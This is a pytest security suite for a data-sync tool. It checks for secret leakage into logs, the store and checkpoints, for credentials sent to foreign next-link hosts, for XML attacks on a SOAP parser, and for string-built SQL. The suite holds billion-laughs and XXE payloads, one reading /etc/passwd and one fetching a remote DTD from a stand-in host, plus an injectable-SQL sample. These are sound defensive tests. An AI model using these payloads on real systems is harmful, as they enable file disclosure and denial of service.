"""Security properties across the whole sync: secrets never reach logs, errors or the store
(logging at DEBUG, failures included; every table scanned for every registered secret, with a
run stopped mid-entity so checkpoints are there); checkpoints hold paging positions, never
headers, and never an API key the server echoes in its links; credentials never reach a foreign
host named in a next-link (checked at the network, behind a proxy); the SOAP response parser
refuses XML attacks; and SQL in concord is built only with bound parameters (an AST check)."""

from __future__ import annotations

import ast
import logging
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import pytest
from sqlalchemy import select

from concord.config import load_config
from concord.errors import ConcordError, RunFailed
from concord.pipeline import RunOptions, run_sync
from concord.redact import registered_secrets
from concord.store import Store
from concord.store import tables as t
from sandbox.crm import CrmServer
from sandbox.erp_data import ErpDataset
from sandbox.fault_proxy import FaultProxy, Toxic
from sandbox.server import LoopbackServer, Request, Response
from tests.reliability.conftest import REPO, UNTIL, write_config

ERP_SECRET = "erp-TOKEN-4f9a1c77e2d54b0b"
CRM_SECRET = "crm-TOKEN-91d2aa0c3e6f4e1d"


def _store_text(store_url: str) -> str:
    store = Store(store_url)
    try:
        with store.engine.connect() as conn:
            runs = conn.execute(select(t.runs.c.report)).scalars().all()
            stages = conn.execute(select(t.stage_reports.c.report)).scalars().all()
            rejects = conn.execute(select(t.rejects.c.reason)).scalars().all()
        return repr(runs) + repr(stages) + repr(rejects)
    finally:
        store.dispose()


@pytest.fixture
def secret_env(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setenv("SANDBOX_ERP_TOKEN", ERP_SECRET)
    monkeypatch.setenv("SANDBOX_CRM_TOKEN", CRM_SECRET)


@pytest.fixture
def servers(secret_env: None) -> Iterator[tuple[Any, CrmServer]]:
    from sandbox.rest_erp import RestErpServer

    with (
        RestErpServer(ErpDataset.generate(seed=7, customers=20), token=ERP_SECRET) as erp,
        CrmServer(token=CRM_SECRET) as crm,
    ):
        yield erp, crm


def test_secrets_never_reach_debug_logs_errors_or_reports(
    servers: tuple[Any, CrmServer], tmp_path: Path, caplog: pytest.LogCaptureFixture
) -> None:
    erp, crm = servers
    url = f"sqlite:///{tmp_path / 's.db'}"
    caplog.set_level(logging.DEBUG)
    messages: list[str] = []
    with FaultProxy(erp.url) as erp_proxy, FaultProxy(crm.url) as crm_proxy:
        config = write_config(
            tmp_path / "c.yaml", store_url=url, erp_url=erp_proxy.url, crm_url=crm_proxy.url
        )
        erp_proxy.add(Toxic("status", path="/api/v1/orders", status=500, times=2))
        crm_proxy.add(Toxic("status", status=429, retry_after=0, times=1))
        run_sync(load_config(config), RunOptions(window_end=UNTIL))
        erp_proxy.add(Toxic("status", path="/api/v1/payments", status=401, times=None))
        with pytest.raises(ConcordError) as failed:
            run_sync(load_config(config), RunOptions(window_end=UNTIL, full_refresh=True))
        messages.append(failed.value.message)
        messages.append(repr(failed.value))
    logged = caplog.text + "\n".join(r.getMessage() for r in caplog.records)
    assert "GET" in logged or "api/v1" in logged, "DEBUG logging captured nothing"
    for secret in (ERP_SECRET, CRM_SECRET):
        assert secret not in logged
        assert all(secret not in m for m in messages)
        assert secret not in _store_text(url)


def _whole_store(store_url: str) -> str:
    """Every row of every table of the store, as text."""
    store = Store(store_url)
    try:
        with store.engine.connect() as conn:
            return "\n".join(
                repr(conn.execute(select(table)).all()) for table in t.metadata.sorted_tables
            )
    finally:
        store.dispose()


class _StopAfterFirstPage(Exception):
    pass


def _stop_at(entity: str) -> Any:
    def on_event(name: str, data: dict[str, Any]) -> None:
        if name == "page" and data.get("entity") == entity:
            raise _StopAfterFirstPage(entity)  # committed with its checkpoint (commit_records=1)

    return on_event


def test_no_registered_secret_is_anywhere_in_the_store(
    servers: tuple[Any, CrmServer], tmp_path: Path
) -> None:
    erp, crm = servers
    url = f"sqlite:///{tmp_path / 'scan.db'}"
    config = write_config(
        tmp_path / "c.yaml", store_url=url, erp_url=erp.url, crm_url=crm.url, commit_records=1
    )
    config.write_text(
        config.read_text().replace(
            "    records_path: data\n", "    records_path: data\n    headers: {X-Tenant: acme}\n"
        )
    )
    with pytest.raises(_StopAfterFirstPage):
        run_sync(load_config(config), RunOptions(window_end=UNTIL), on_event=_stop_at("orders"))
    store = Store(url)
    checkpoint = store.watermark("sandbox_erp", "orders").checkpoint
    store.dispose()
    assert checkpoint is not None and "cursor" in checkpoint  # a run stopped mid-entity
    assert "X-Tenant" not in checkpoint and "Authorization" not in checkpoint
    run_sync(load_config(config), RunOptions(window_end=UNTIL))  # resumed and finished
    assert crm.objects["companies"], "nothing was pushed"
    secrets = registered_secrets()
    assert {ERP_SECRET, CRM_SECRET} <= secrets
    text = _whole_store(url)
    assert "sandbox_erp" in text and "Authorization" not in text  # the scan read the rows
    for secret in secrets:
        assert secret not in text


class _EchoingErp(LoopbackServer):
    """An ERP whose next links carry the API key it was called with (some APIs do)."""

    def handle(self, request: Request) -> Response:
        assert request.query.get("api_key") == ERP_SECRET, "the key did not arrive"
        page = int(request.query.get("page", "1"))
        record = {
            "id": f"C-{page}",
            "company": f"Firma {page} GmbH",
            "updated_at": "2026-10-01T00:00:00Z",
        }
        nxt = f"{request.path}?page={page + 1}&api_key={ERP_SECRET}" if page < 3 else None
        return Response(200, {"data": [record], "next": nxt})


def test_an_api_key_echoed_in_next_links_never_reaches_a_checkpoint(
    secret_env: None, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setenv("ERP_API_KEY", ERP_SECRET)
    url = f"sqlite:///{tmp_path / 'echo.db'}"
    with _EchoingErp() as erp:
        config = write_config(
            tmp_path / "c.yaml",
            store_url=url,
            erp_url=erp.url,
            crm_url="http://127.0.0.1:9",
            commit_records=1,
        )
        text = (
            config.read_text()
            .replace("reject_ratio: 0.2", "reject_ratio: 1.0")  # the records are bare
            .replace(
                "auth: {type: bearer, token: {env: SANDBOX_ERP_TOKEN}}",
                "auth: {type: api_key, key: {env: ERP_API_KEY}, name: api_key, location: query}",
            )
            .replace(
                "paginator: {type: cursor, cursor_path: next_cursor, cursor_param: cursor, "
                "limit_param: limit}",
                "paginator: {type: next_link, next_path: next}",
            )
        )
        # The other entities are pulled beside customers: the stop leaves their records staged
        # and not mapped, and the rerun, with nothing new to pull, maps (and gates) them.
        config.write_text(text.split("targets:")[0] + "identity:\n  rules: [tax_id]\n")
        with pytest.raises(_StopAfterFirstPage):
            run_sync(
                load_config(config), RunOptions(window_end=UNTIL), on_event=_stop_at("customers")
            )
        store = Store(url)
        checkpoint = store.watermark("sandbox_erp", "customers").checkpoint
        store.dispose()
        assert checkpoint is not None and "page=2" in checkpoint
        assert ERP_SECRET not in checkpoint
        # The auth adds the key back. The other entities' bare records map to nothing, so the
        # run stops at the gates before the push (there is no target here anyway).
        before = len(erp.requests)
        with pytest.raises(RunFailed, match="not one maps"):
            run_sync(load_config(config), RunOptions(window_end=UNTIL))
        # the rerun resumed at the checkpoint's page and read on from there, each page once (the
        # stopped run may have read pages ahead that it never staged: read again here)
        rerun = [p for _m, p in erp.requests[before:] if p.startswith("/api/v1/customers")]
        assert rerun and all("page=" in p for p in rerun)  # not from the window's first page
        assert sum(p.startswith("/api/v1/customers?page=2") for p in rerun) == 1
        assert sum(p.startswith("/api/v1/customers?page=3") for p in rerun) == 1
    assert ERP_SECRET not in _whole_store(url)


def test_api_key_in_query_never_reaches_debug_logs(
    tmp_path: Path, caplog: pytest.LogCaptureFixture, monkeypatch: pytest.MonkeyPatch
) -> None:
    from sandbox.rest_erp import RestErpServer

    monkeypatch.setenv("ERP_API_KEY", ERP_SECRET)
    with RestErpServer(ErpDataset.generate(seed=7, customers=12), token=None) as erp:
        config = write_config(
            tmp_path / "c.yaml",
            store_url=f"sqlite:///{tmp_path / 'k.db'}",
            erp_url=erp.url,
            crm_url="http://127.0.0.1:9",
        )
        text = config.read_text().replace(
            "auth: {type: bearer, token: {env: SANDBOX_ERP_TOKEN}}",
            "auth: {type: api_key, key: {env: ERP_API_KEY}, name: api_key, location: query}",
        )
        config.write_text(text.split("targets:")[0] + "identity:\n  rules: [tax_id]\n")
        caplog.set_level(logging.DEBUG)
        run_sync(load_config(config), RunOptions(window_end=UNTIL))
        assert any("api_key=" in p for _m, p in erp.requests), "the key was not sent in the query"
    assert ERP_SECRET not in caplog.text


class _LinkingErp(LoopbackServer):
    """An ERP whose first page's next-link points at another host."""

    def __init__(self, foreign: str) -> None:
        self.foreign = foreign
        super().__init__(token=ERP_SECRET)

    def handle(self, request: Request) -> Response:
        record = {"id": "C-1", "company": "Hansa GmbH", "updated_at": "2026-10-01T00:00:00Z"}
        return Response(200, {"data": [record], "next": f"{self.foreign}/api/v1/customers?p=2"})


class _Recorder(LoopbackServer):
    """Records the headers of every request it receives."""

    def __init__(self) -> None:
        self.headers: list[dict[str, str]] = []
        super().__init__(token=None)

    def handle(self, request: Request) -> Response:
        self.headers.append(request.headers)
        return Response(200, {"data": [], "next": None})


def test_foreign_next_link_gets_no_request_at_all(secret_env: None, tmp_path: Path) -> None:
    with _Recorder() as recorder, FaultProxy(recorder.url, host="127.0.0.2") as foreign:
        with _LinkingErp(foreign.url) as erp:
            config = write_config(
                tmp_path / "c.yaml",
                store_url=f"sqlite:///{tmp_path / 'n.db'}",
                erp_url=erp.url,
                crm_url="http://127.0.0.1:9",
            )
            text = config.read_text().replace(
                "paginator: {type: cursor, cursor_path: next_cursor, cursor_param: cursor, "
                "limit_param: limit}",
                "paginator: {type: next_link, next_path: next}",
            )
            config.write_text(text.split("targets:")[0])
            with pytest.raises(ConcordError) as failed:
                run_sync(load_config(config), RunOptions(window_end=UNTIL))
        assert "another host" in failed.value.message or "origin" in failed.value.message
        assert foreign.requests == 0
        assert recorder.headers == []


# -- XML attacks (cross-check of the SOAP connector's parser) -------------------------------------

BILLION_LAUGHS = b"""<?xml version="1.0"?>
<!DOCTYPE lolz [<!ENTITY lol "lol"><!ENTITY lol2 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;">
<!ENTITY lol3 "&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;">]>
<Envelope><Body><r>&lol3;</r></Body></Envelope>"""
XXE_FILE = b"""<?xml version="1.0"?>
<!DOCTYPE r [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>
<Envelope><Body><r>&xxe;</r></Body></Envelope>"""
XXE_NETWORK = b"""<?xml version="1.0"?>
<!DOCTYPE r [<!ENTITY % ext SYSTEM "http://203.0.113.9/evil.dtd"> %ext;]>
<Envelope><Body><r>x</r></Body></Envelope>"""


@pytest.mark.parametrize(
    "body",
    [BILLION_LAUGHS, XXE_FILE, XXE_NETWORK],
    ids=["billion_laughs", "xxe_file", "xxe_network"],
)
def test_soap_response_parser_refuses_xml_attacks(body: bytes) -> None:
    soap_response = pytest.importorskip("connectors.erp.soap_response")
    with pytest.raises(soap_response.ResponseProblem) as refused:
        soap_response.parse_document(body)
    assert refused.value.kind == "refused"
    assert "root:" not in refused.value.text


# -- SQL only with bound parameters ---------------------------------------------------------------

SQL_CALLS = {"text", "execute", "exec_driver_sql", "executemany", "executescript"}


def _dynamic_sql(node: ast.Call) -> bool:
    if not node.args:
        return False
    arg = node.args[0]
    if isinstance(arg, ast.JoinedStr):
        return any(isinstance(v, ast.FormattedValue) for v in arg.values)
    if isinstance(arg, ast.BinOp) and isinstance(arg.op, (ast.Mod, ast.Add)):
        return True
    return (
        isinstance(arg, ast.Call)
        and isinstance(arg.func, ast.Attribute)
        and arg.func.attr == "format"
    )


def sql_built_from_strings(root: Path) -> list[str]:
    """file:line of every SQL call whose statement is an f-string, %-format, + or .format()."""
    found: list[str] = []
    for path in sorted(root.rglob("*.py")):
        tree = ast.parse(path.read_text(), filename=str(path))
        for node in ast.walk(tree):
            if not isinstance(node, ast.Call):
                continue
            func = node.func
            name = func.attr if isinstance(func, ast.Attribute) else getattr(func, "id", "")
            if name in SQL_CALLS and _dynamic_sql(node):
                found.append(f"{path.relative_to(root.parent)}:{node.lineno}")
    return found


def test_sql_checker_catches_string_built_sql(tmp_path: Path) -> None:
    sample = tmp_path / "bad.py"
    sample.write_text(
        "def f(conn, name, t):\n"
        "    conn.execute(text(f'SELECT * FROM x WHERE n = {name}'))\n"
        "    conn.exec_driver_sql('SELECT %s' % name)\n"
        "    conn.execute(text('SELECT * FROM x WHERE n = :n'), {'n': name})\n"
    )
    found = set(sql_built_from_strings(tmp_path))
    assert found == {f"{tmp_path.name}/bad.py:2", f"{tmp_path.name}/bad.py:3"}


@pytest.mark.parametrize("package", ["concord", "connectors"])
def test_sql_is_built_only_with_bound_parameters(package: str) -> None:
    allowed = {
        # DDL with identifiers that cannot be bound: schema names in migrations, quoted
        "concord/migrations/",
    }
    found = [
        f
        for f in sql_built_from_strings(REPO / package)
        if not any(f.startswith(prefix) for prefix in allowed)
    ]
    assert found == [], f"SQL built from strings at {found}"
